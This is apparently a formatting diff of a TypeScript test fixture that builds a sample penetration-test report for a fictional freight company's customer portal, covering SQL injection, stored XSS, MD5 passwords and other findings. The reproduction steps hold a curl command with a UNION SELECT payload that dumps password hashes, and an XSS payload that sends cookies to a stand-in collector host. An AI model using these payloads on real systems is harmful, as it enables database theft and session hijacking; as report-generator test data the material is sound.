@@ -93,42 +93,124 @@ const asset = (index: number, name: string, status: DataFindingValue['status'] =
 const injection: DataFindingValue = {
   ...FINDING,
   summary: [
-    p('Any customer can read and change the whole database of the shop: the parameter ', t('status', 'code'), ' of the search reaches an SQL statement unchanged.'),
+    p(
+      'Any customer can read and change the whole database of the shop: the parameter ',
+      t('status', 'code'),
+      ' of the search reaches an SQL statement unchanged.',
+    ),
   ],
   description: [
-    p('The search of orders builds its statement from strings. A quotation mark in ', t('status', 'code'), ' ends the literal; what follows is executed as SQL, with the rights of the account ', t('shop_rw', 'code'), '. ', { type: 'reference', text: 'Figure 1', target: 'figure-1' }, ' shows the answer in the customer portal, and ', { type: 'reference', text: 'Table 2', target: 'table-2' }, ' lists the tables that we read.'),
-    p('We read the names of users and the hashes of their passwords, then stopped. No data were changed.', { type: 'footnote', number: 1 }),
-    table('Tables within reach of the account shop_rw', ['Schema', 'Table', 'Rows', 'Contents'], [
-      ['public', 'users', '18,204', 'Names, addresses, password hashes (Argon2id)'],
-      ['public', 'orders', '1,204,991', 'Consignments with sender, consignee and declared value'],
-      ['billing', 'invoices', '401,200', 'Invoices, IBAN of the payer'],
-      ['audit', 'events', '88,120,004', 'Log of all sign-ins since 2019'],
-    ], 2),
+    p(
+      'The search of orders builds its statement from strings. A quotation mark in ',
+      t('status', 'code'),
+      ' ends the literal; what follows is executed as SQL, with the rights of the account ',
+      t('shop_rw', 'code'),
+      '. ',
+      { type: 'reference', text: 'Figure 1', target: 'figure-1' },
+      ' shows the answer in the customer portal, and ',
+      { type: 'reference', text: 'Table 2', target: 'table-2' },
+      ' lists the tables that we read.',
+    ),
+    p('We read the names of users and the hashes of their passwords, then stopped. No data were changed.', {
+      type: 'footnote',
+      number: 1,
+    }),
+    table(
+      'Tables within reach of the account shop_rw',
+      ['Schema', 'Table', 'Rows', 'Contents'],
+      [
+        ['public', 'users', '18,204', 'Names, addresses, password hashes (Argon2id)'],
+        ['public', 'orders', '1,204,991', 'Consignments with sender, consignee and declared value'],
+        ['billing', 'invoices', '401,200', 'Invoices, IBAN of the payer'],
+        ['audit', 'events', '88,120,004', 'Log of all sign-ins since 2019'],
+      ],
+      2,
+    ),
     { type: 'footnotes', items: [[p('Agreed with Mr Keller by telephone on 12 November 2026, 14:10.')]] },
   ],
   impact: [
-    p('An attacker with any customer account reads all personal data of 18,204 customers, changes consignments, and takes over the accounts of employees. ', t('This must be reported under Article 33 GDPR if it was exploited before', 'bold'), '; the logs that we saw show no sign of that.'),
-    { type: 'callout', kind: 'warning', items: [[p('The same account can write files on the database server. We did not try to execute them.')]] },
+    p(
+      'An attacker with any customer account reads all personal data of 18,204 customers, changes consignments, and takes over the accounts of employees. ',
+      t('This must be reported under Article 33 GDPR if it was exploited before', 'bold'),
+      '; the logs that we saw show no sign of that.',
+    ),
+    {
+      type: 'callout',
+      kind: 'warning',
+      items: [[p('The same account can write files on the database server. We did not try to execute them.')]],
+    },
   ],
   reproduction: [
-    { type: 'list', ordered: true, start: 1, items: [[p('Sign in to the customer portal with any account.')], [p('Open ', t('Orders', 'bold'), ' and search for an open order.')], [p('Repeat the request with the payload below:'), { type: 'code', language: 'sh', text: "curl -s https://shop.meridian-freight.example/api/v2/orders/search \\\n  -H 'authorization: Bearer '\"$TOKEN\" \\\n  --data '{\"status\":\"open'\\'' UNION SELECT username, password_hash, NULL, NULL FROM users-- -\"}'" }]] },
+    {
+      type: 'list',
+      ordered: true,
+      start: 1,
+      items: [
+        [p('Sign in to the customer portal with any account.')],
+        [p('Open ', t('Orders', 'bold'), ' and search for an open order.')],
+        [
+          p('Repeat the request with the payload below:'),
+          {
+            type: 'code',
+            language: 'sh',
+            text: "curl -s https://shop.meridian-freight.example/api/v2/orders/search \\\n  -H 'authorization: Bearer '\"$TOKEN\" \\\n  --data '{\"status\":\"open'\\'' UNION SELECT username, password_hash, NULL, NULL FROM users-- -\"}'",
+          },
+        ],
+      ],
+    },
     { type: 'exchange', anchor: 'exchange-1', title: 'Search with UNION SELECT', request: REQUEST, response: RESPONSE },
   ],
   evidence: [
-    { type: 'figure', anchor: 'figure-1', number: 1, image: 'shot', alt: 'The customer portal lists names and password hashes', caption: [t('The customer portal lists names and password hashes of users')] },
+    {
+      type: 'figure',
+      anchor: 'figure-1',
+      number: 1,
+      image: 'shot',
+      alt: 'The customer portal lists names and password hashes',
+      caption: [t('The customer portal lists names and password hashes of users')],
+    },
   ],
   recommendation: [
-    p('Pass every value as a parameter of a prepared statement; the ORM in use does so with ', t('where({ status })', 'code'), '. Then:'),
-    list('Give the account of the shop only the rights on the tables that it needs.', 'Add a test that sends quotation marks to every parameter of the API.', 'Rotate the passwords of all employees, because their hashes were readable.'),
-    { type: 'list', checked: [true, false], items: [[p('Search for other statements made from strings')], [p('Alert on errors of SQL syntax')]] },
+    p(
+      'Pass every value as a parameter of a prepared statement; the ORM in use does so with ',
+      t('where({ status })', 'code'),
+      '. Then:',
+    ),
+    list(
+      'Give the account of the shop only the rights on the tables that it needs.',
+      'Add a test that sends quotation marks to every parameter of the API.',
+      'Rotate the passwords of all employees, because their hashes were readable.',
+    ),
+    {
+      type: 'list',
+      checked: [true, false],
+      items: [[p('Search for other statements made from strings')], [p('Alert on errors of SQL syntax')]],
+    },
   ],
   affected: [
     asset(1, 'https://shop.meridian-freight.example/api/v2/orders/search', 'open', 'Parameter status'),
-    asset(2, 'https://partner.meridian-freight.example/api/v2/orders/search', 'fixed', 'Behind the VPN of the partners'),
+    asset(
+      2,
+      'https://partner.meridian-freight.example/api/v2/orders/search',
+      'fixed',
+      'Behind the VPN of the partners',
+    ),
   ],
   retest: [
-    { asset: 'https://shop.meridian-freight.example/api/v2/orders/search', before: 'open', after: 'open', note: 'The filter of UNION can be bypassed with comments', testedOn: '2026-11-20' },
-    { asset: 'https://partner.meridian-freight.example/api/v2/orders/search', before: 'open', after: 'fixed', note: '', testedOn: '2026-11-20' },
+    {
+      asset: 'https://shop.meridian-freight.example/api/v2/orders/search',
+      before: 'open',
+      after: 'open',
+      note: 'The filter of UNION can be bypassed with comments',
+      testedOn: '2026-11-20',
+    },
+    {
+      asset: 'https://partner.meridian-freight.example/api/v2/orders/search',
+      before: 'open',
+      after: 'fixed',
+      note: '',
+      testedOn: '2026-11-20',
+    },
   ],
 }
 
@@ -164,13 +246,64 @@ const short = (
 
 export const FINDINGS: DataFindingValue[] = [
   injection,
-  short(2, 'Stored cross-site scripting in comments on consignments', 'high', 7.6, 'Comments are inserted into pages as HTML.', 'Encode text where it is inserted, and send a Content Security Policy without unsafe-inline.', {
-    reproduction: [p('Save this comment, then open the consignment as an employee:'), { type: 'code', language: 'html', text: '<img src=x onerror="fetch(\'https://collector.example/?c=\' + encodeURIComponent(document.cookie))">' }],
-  }),
-  short(3, 'Passwords of partners are stored with MD5', 'high', 7.1, 'The table partners has unsalted MD5 hashes.', 'Use Argon2id, and convert each hash at the next sign-in.', { status: 'partly_fixed', cwe: ['CWE-328'] }),
-  short(4, 'Session does not end on sign-out', 'medium', 5.4, 'The session cookie works for 24 hours after signing out.', 'Delete the session on the server.', { clientStatus: { state: 'planned', until: '2027-01-31', reason: 'Part of release 4.2' } }),
-  short(5, 'TLS 1.0 and 1.1 are accepted', 'low', 3.1, 'The load balancer accepts TLS 1.0 and 1.1.', 'Accept TLS 1.2 and 1.3 only.', { status: 'fixed', affected: Array.from({ length: 24 }, (_, index) => asset(index + 10, `10.20.${index}.14:443`, index % 3 === 0 ? 'fixed' : 'open')) }),
-  short(6, 'Version of the web server in headers', 'info', null, 'The header Server names the version.', 'Set server_tokens to off.'),
+  short(
+    2,
+    'Stored cross-site scripting in comments on consignments',
+    'high',
+    7.6,
+    'Comments are inserted into pages as HTML.',
+    'Encode text where it is inserted, and send a Content Security Policy without unsafe-inline.',
+    {
+      reproduction: [
+        p('Save this comment, then open the consignment as an employee:'),
+        {
+          type: 'code',
+          language: 'html',
+          text: '<img src=x onerror="fetch(\'https://collector.example/?c=\' + encodeURIComponent(document.cookie))">',
+        },
+      ],
+    },
+  ),
+  short(
+    3,
+    'Passwords of partners are stored with MD5',
+    'high',
+    7.1,
+    'The table partners has unsalted MD5 hashes.',
+    'Use Argon2id, and convert each hash at the next sign-in.',
+    { status: 'partly_fixed', cwe: ['CWE-328'] },
+  ),
+  short(
+    4,
+    'Session does not end on sign-out',
+    'medium',
+    5.4,
+    'The session cookie works for 24 hours after signing out.',
+    'Delete the session on the server.',
+    { clientStatus: { state: 'planned', until: '2027-01-31', reason: 'Part of release 4.2' } },
+  ),
+  short(
+    5,
+    'TLS 1.0 and 1.1 are accepted',
+    'low',
+    3.1,
+    'The load balancer accepts TLS 1.0 and 1.1.',
+    'Accept TLS 1.2 and 1.3 only.',
+    {
+      status: 'fixed',
+      affected: Array.from({ length: 24 }, (_, index) =>
+        asset(index + 10, `10.20.${index}.14:443`, index % 3 === 0 ? 'fixed' : 'open'),
+      ),
+    },
+  ),
+  short(
+    6,
+    'Version of the web server in headers',
+    'info',
+    null,
+    'The header Server names the version.',
+    'Set server_tokens to off.',
+  ),
 ]
 
 export const section = (
@@ -191,32 +324,93 @@ export const section = (
 })
 
 const summary = section(1, 'management_summary', 'Management summary', [
-  p('Meridian Freight AG asked us to test its customer portal and the interface for partners before the release in December. Two people tested from 9 to 20 November 2026, with two accounts of customers and one of a partner.'),
-  p(t('The portal should not go live as it is.', 'bold'), ' One weakness lets any customer read and change the database. It is quick to fix, and we recommend to do so before anything else. The other findings are typical of an application of this age and can be planned.'),
+  p(
+    'Meridian Freight AG asked us to test its customer portal and the interface for partners before the release in December. Two people tested from 9 to 20 November 2026, with two accounts of customers and one of a partner.',
+  ),
+  p(
+    t('The portal should not go live as it is.', 'bold'),
+    ' One weakness lets any customer read and change the database. It is quick to fix, and we recommend to do so before anything else. The other findings are typical of an application of this age and can be planned.',
+  ),
   { type: 'severity_chart', anchor: 'chart', number: 1, caption: [t('Findings by severity')] },
   h(1, 'What we recommend'),
-  { type: 'list', ordered: true, items: [[p(t('Now: ', 'bold'), 'fix the search of orders and rotate the passwords of employees.')], [p(t('Before the release: ', 'bold'), 'encode comments, replace MD5, end sessions on the server.')], [p(t('Later: ', 'bold'), 'retire TLS 1.0, and review statements made from strings once a year.')]] },
+  {
+    type: 'list',
+    ordered: true,
+    items: [
+      [p(t('Now: ', 'bold'), 'fix the search of orders and rotate the passwords of employees.')],
+      [p(t('Before the release: ', 'bold'), 'encode comments, replace MD5, end sessions on the server.')],
+      [p(t('Later: ', 'bold'), 'retire TLS 1.0, and review statements made from strings once a year.')],
+    ],
+  },
 ])
-const scope = section(2, 'scope', 'Scope and approach', [
-  p('The scope was agreed in the letter of authorization of 2 November 2026. Denial of service and social engineering were excluded.'),
-  table('Systems in scope', ['System', 'Kind', 'Decision', 'Note'], [
-    ['shop.meridian-freight.example', 'Web application', 'In scope', 'Customer portal, release 4.1'],
-    ['partner.meridian-freight.example', 'Web application', 'In scope', 'Interface for partners'],
-    ['10.20.0.0/16', 'Network', 'Caution', 'Only between 20:00 and 06:00'],
-    ['legacy.meridian-freight.example', 'Web application', 'Out of scope', 'Operated by another company'],
-  ], 1),
-  h(1, 'Approach'),
-  p('We followed the ', { type: 'link', text: 'OWASP Web Security Testing Guide', href: 'https://owasp.org/www-project-web-security-testing-guide/' }, ' and tested by hand; tools only helped to cover the surface. Every finding was confirmed by a person.'),
-  { type: 'quote', items: [[p('“Please treat the partner interface with the same care as the portal: it moves more money.” (Kick-off, 5 November)')]] },
-  { type: 'callout', kind: 'note', items: [[p('Severities follow CVSS. Where we deviate, the finding says why.')]] },
-], 'scope')
+const scope = section(
+  2,
+  'scope',
+  'Scope and approach',
+  [
+    p(
+      'The scope was agreed in the letter of authorization of 2 November 2026. Denial of service and social engineering were excluded.',
+    ),
+    table(
+      'Systems in scope',
+      ['System', 'Kind', 'Decision', 'Note'],
+      [
+        ['shop.meridian-freight.example', 'Web application', 'In scope', 'Customer portal, release 4.1'],
+        ['partner.meridian-freight.example', 'Web application', 'In scope', 'Interface for partners'],
+        ['10.20.0.0/16', 'Network', 'Caution', 'Only between 20:00 and 06:00'],
+        ['legacy.meridian-freight.example', 'Web application', 'Out of scope', 'Operated by another company'],
+      ],
+      1,
+    ),
+    h(1, 'Approach'),
+    p(
+      'We followed the ',
+      {
+        type: 'link',
+        text: 'OWASP Web Security Testing Guide',
+        href: 'https://owasp.org/www-project-web-security-testing-guide/',
+      },
+      ' and tested by hand; tools only helped to cover the surface. Every finding was confirmed by a person.',
+    ),
+    {
+      type: 'quote',
+      items: [
+        [
+          p(
+            '“Please treat the partner interface with the same care as the portal: it moves more money.” (Kick-off, 5 November)',
+          ),
+        ],
+      ],
+    },
+    { type: 'callout', kind: 'note', items: [[p('Severities follow CVSS. Where we deviate, the finding says why.')]] },
+  ],
+  'scope',
+)
 const results = section(3, 'findings_overview', 'Findings at a glance', [], 'findings_table')
 const details = section(4, 'findings', 'Findings in detail', [{ type: 'findings' }], 'findings')
-const team = section(5, 'team', 'Team and contacts', [
-  table('Who tested', ['Name', 'Role', 'E-mail'], [['Ada Lovelace', 'Lead', 'ada@northwind.example'], ['Grace Hopper', 'Tester', 'grace@northwind.example']], 3),
-  { type: 'rule' },
-  p('Questions about this report: ', { type: 'link', text: 'ada@northwind.example', href: 'mailto:ada@northwind.example' }, '.'),
-], 'team')
+const team = section(
+  5,
+  'team',
+  'Team and contacts',
+  [
+    table(
+      'Who tested',
+      ['Name', 'Role', 'E-mail'],
+      [
+        ['Ada Lovelace', 'Lead', 'ada@northwind.example'],
+        ['Grace Hopper', 'Tester', 'grace@northwind.example'],
+      ],
+      3,
+    ),
+    { type: 'rule' },
+    p(
+      'Questions about this report: ',
+      { type: 'link', text: 'ada@northwind.example', href: 'mailto:ada@northwind.example' },
+      '.',
+    ),
+  ],
+  'team',
+)
 
 const SEVERITIES = [
   { key: 'critical', name: 'Critical', color: '#8f1d2c' },
@@ -275,10 +469,25 @@ export const reportDocument = (change: Partial<ReportDataValue> = {}): TestDocum
       fonts: { body: 'Inter', heading: 'Inter', code: 'JetBrains Mono' },
       header: 'Penetration test of the customer portal',
       footer: 'Northwind Security',
-      cover: { title: '', subtitle: 'Web application and interface for partners', note: 'This report is confidential. It is for the people named in the letter of authorization only.' },
+      cover: {
+        title: '',
+        subtitle: 'Web application and interface for partners',
+        note: 'This report is confidential. It is for the people named in the letter of authorization only.',
+      },
       classification: 'tlp-amber',
       classificationLabel: 'TLP:AMBER',
-      findingParts: ['facts', 'summary', 'description', 'affected', 'impact', 'reproduction', 'evidence', 'recommendation', 'references', 'retest'],
+      findingParts: [
+        'facts',
+        'summary',
+        'description',
+        'affected',
+        'impact',
+        'reproduction',
+        'evidence',
+        'recommendation',
+        'references',
+        'retest',
+      ],
       groupBySeverity: false,
       tableOfContents: true,
     },
@@ -289,5 +498,11 @@ export const reportDocument = (change: Partial<ReportDataValue> = {}): TestDocum
     images: { shot: imageOf(shot, 1200, 700), logo: imageOf(mark, 360, 96) },
     ...change,
   }
-  return { data: structuredClone(data), images: new Map([['shot', shot], ['logo', mark]]) }
+  return {
+    data: structuredClone(data),
+    images: new Map([
+      ['shot', shot],
+      ['logo', mark],
+    ]),
+  }
 }
